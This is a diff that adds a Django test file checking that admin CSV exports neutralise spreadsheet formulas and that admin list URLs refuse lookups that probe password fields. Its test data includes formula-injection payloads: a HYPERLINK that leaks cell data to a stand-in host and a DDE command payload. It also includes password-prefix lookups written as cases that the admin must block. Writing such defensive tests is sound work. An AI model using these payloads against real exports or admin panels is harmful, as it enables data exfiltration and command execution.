@@ -1,0 +1,89 @@
+"""The admin under hostile input: exports neutralise formulas, list URLs refuse lookups on
+secret fields (issue 14, findings 1 and 6)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from credentials.models import Actor, AuditEvent, LongTermCredential, Registry, User
+from tests.conftest import client_for
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tindented=1",
+    "\r=1",
+]
+
+
+def read_export(response) -> list[list[str]]:
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_event_export_neutralises_formulas_from_unauthenticated_input(
+    staff_user: User, formula: str
+) -> None:
+    Client(HTTP_USER_AGENT=formula).post(
+        "/accounts/login/", {"username": formula.strip() or "x", "password": "wrong"}
+    )
+    AuditEvent.record(
+        AuditEvent.Action.REGISTRY_LOGIN_FAILED, Actor(None, user_agent=formula), username=formula
+    )
+    rows = read_export(client_for(staff_user).get(reverse("admin:credentials_auditevent_export")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells, "the export has no rows"
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert "'" + formula in cells  # kept, readable, as text
+
+
+def test_the_credential_export_neutralises_formulas_too(
+    staff_user: User, registry: Registry
+) -> None:
+    evil = User.objects.create_user(username="=1+1", password="x" * 20)
+    LongTermCredential.objects.create_for(owner=evil, registry=registry, name="ci", by=Actor(evil))
+    rows = read_export(
+        client_for(staff_user).get(reverse("admin:credentials_longtermcredential_export"))
+    )
+    assert rows[1][1] == "'=1+1"
+
+
+@pytest.mark.parametrize(
+    ("url_name", "lookup"),
+    [
+        ("admin:credentials_longtermcredential_changelist", "password_digest__startswith"),
+        ("admin:credentials_longtermcredential_export", "password_digest__startswith"),
+        ("admin:credentials_longtermcredential_changelist", "password_digest"),
+        ("admin:credentials_longtermcredential_changelist", "owner__password__startswith"),
+        ("admin:credentials_temporarycredential_changelist", "password_digest__startswith"),
+        ("admin:credentials_temporarycredential_changelist", "user__password__startswith"),
+        ("admin:credentials_user_changelist", "password__startswith"),
+        ("admin:credentials_auditevent_changelist", "actor__password__startswith"),
+        ("admin:credentials_auditevent_export", "actor__password__startswith"),
+    ],
+)
+def test_lookups_on_secret_fields_are_refused(
+    staff_user: User, registry: Registry, url_name: str, lookup: str
+) -> None:
+    LongTermCredential.objects.create_for(
+        owner=staff_user, registry=registry, name="ci", by=Actor(staff_user)
+    )
+    response = client_for(staff_user).get(reverse(url_name), {lookup: "a"})
+    assert response.status_code == 400
+
+
+def test_ordinary_filters_still_work(staff_user: User, registry: Registry) -> None:
+    response = client_for(staff_user).get(
+        reverse("admin:credentials_longtermcredential_changelist"), {"is_enabled__exact": "1"}
+    )
+    assert response.status_code == 200
